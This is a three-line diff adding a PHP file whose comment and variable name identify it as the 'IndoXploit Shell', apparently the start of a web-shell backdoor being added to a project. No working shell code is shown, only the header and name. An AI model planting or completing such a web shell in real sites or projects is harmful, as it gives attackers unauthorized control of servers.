@@ -1,0 +1,3 @@
+<?php
+// IndoXploit Shell
+$shell_name = 'IndoXploit';
